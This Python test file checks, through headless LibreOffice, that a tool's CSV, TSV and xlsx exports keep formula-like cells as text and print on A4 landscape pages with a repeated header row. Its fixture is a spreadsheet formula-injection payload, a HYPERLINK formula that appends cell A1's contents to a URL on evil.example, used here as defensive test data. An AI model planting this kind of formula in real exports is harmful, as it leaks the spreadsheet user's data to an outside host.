"""kb's exports opened by a real spreadsheet engine (LibreOffice, headless): CSV and TSV cells that
look like formulas stay text, and the xlsx prints one A4 landscape page wide with its header row on
every page. Slow (LibreOffice takes seconds to start) and skipped where soffice is not installed
(Debian: apt-get install libreoffice-calc-nogui)."""

from __future__ import annotations

import csv
import shutil
import subprocess
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from kb import api
from kb.export import write_export
from kb.models import ExportRow
from kb.store import Store

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed"),
]

HYPERLINK = '=HYPERLINK("https://evil.example/?q="&A1,"詳しくはこちら")'
# LibreOffice's CSV import options: separator, quote ("), UTF-8 (76), from line 1, ..., and the 13th
# token: evaluate formulas, as a user who ticks the box (or an older default) would.
CSV_FILTER = "CSV:{sep},34,76,1,,0,false,true,false,false,false,0,true"


def _soffice(tmp_path: Path, *args: str) -> None:
    assert SOFFICE is not None
    profile = tmp_path / "lo-profile"  # its own profile: no clash with a running LibreOffice
    cmd = [SOFFICE, f"-env:UserInstallation={profile.as_uri()}", "--headless", *args]
    done = subprocess.run(cmd, capture_output=True, text=True, timeout=300, check=False)
    assert done.returncode == 0, done.stderr


def _open_in_calc(tmp_path: Path, path: Path, sep: int) -> Any:
    """The file as LibreOffice Calc reads it, saved as xlsx and read back with openpyxl."""
    out = tmp_path / f"calc-{path.stem}"
    _soffice(
        tmp_path,
        f"--infilter={CSV_FILTER.format(sep=sep)}",
        "--convert-to",
        "xlsx",
        "--outdir",
        str(out),
        str(path),
    )
    return openpyxl.load_workbook(out / f"{path.stem}.xlsx").active


def _hostile_row() -> ExportRow:
    return ExportRow(
        topic="@議会事務局",
        kind="quantity",
        sentence=HYPERLINK,
        title="+81-3-1234-5678",
        date="2023-07-05",
        source="/home/giin/報告.txt",
        line=3,
        surface="-12度",
        value=-12,
        unit="度",
        post_id=1,
    )


@pytest.mark.parametrize(("fmt", "sep"), [("csv", 44), ("tsv", 9)])
def test_formula_cells_stay_text_in_libreoffice(tmp_path: Path, fmt: str, sep: int) -> None:
    # the control: the same cell written raw is run as a formula by this engine
    raw = tmp_path / f"raw.{fmt}"
    with open(raw, "w", encoding="utf-8-sig", newline="") as f:
        csv.writer(f, delimiter="," if sep == 44 else "\t").writerows([["項目", "原文"], ["x", HYPERLINK]])
    control = _open_in_calc(tmp_path, raw, sep)
    assert control["B2"].data_type == "f", "this LibreOffice does not evaluate CSV formulas: no test"

    out = tmp_path / f"kb.{fmt}"
    write_export([_hostile_row()], fmt, str(out))
    ws = _open_in_calc(tmp_path, out, sep)
    cells = {ws.cell(1, c).value: ws.cell(2, c) for c in range(1, ws.max_column + 1)}
    for cell in ws[2]:
        assert cell.data_type != "f", (cell.coordinate, cell.value)
    assert cells["原文"].data_type == "s" and "HYPERLINK" in str(cells["原文"].value)
    assert cells["項目"].data_type == "s" and "議会事務局" in str(cells["項目"].value)
    assert cells["タイトル"].data_type == "s" and "1234-5678" in str(cells["タイトル"].value)
    assert cells["値"].data_type == "n" and cells["値"].value == -12  # a real number stays a number


def _pdf_pages(tmp_path: Path, xlsx: Path) -> list[str]:
    import pypdf

    out = tmp_path / "pdf"
    _soffice(tmp_path, "--convert-to", "pdf", "--outdir", str(out), str(xlsx))
    reader = pypdf.PdfReader(out / f"{xlsx.stem}.pdf")
    for page in reader.pages:
        box = page.mediabox
        assert float(box.width) > float(box.height)  # landscape
        assert round(float(box.width) * 25.4 / 72) == 297  # A4: 297 mm wide
    return [page.extract_text() for page in reader.pages]


def test_mvoting_xlsx_prints_on_one_landscape_page(tmp_path: Path, seed_store: Store) -> None:
    xlsx = tmp_path / "mvoting.xlsx"
    result = api.export(seed_store, api.ExportRequest(facts=api.FactQuery(topic="mVoting"), output=str(xlsx)))
    assert result.rows == 7
    pages = _pdf_pages(tmp_path, xlsx)
    print(f"mVoting xlsx printed to PDF: {len(pages)} page(s)")  # reported by the developer
    assert len(pages) == 1


def test_every_printed_page_repeats_the_header(tmp_path: Path, seed_store: Store) -> None:
    xlsx = tmp_path / "all.xlsx"
    result = api.export(seed_store, api.ExportRequest(output=str(xlsx), headers="en"))
    assert result.rows > 50
    pages = _pdf_pages(tmp_path, xlsx)
    assert 1 < len(pages) < result.rows // 5  # several rows a page, not a page a row
    for text in pages:
        assert "sentence" in text and "title" in text  # the header row on every page
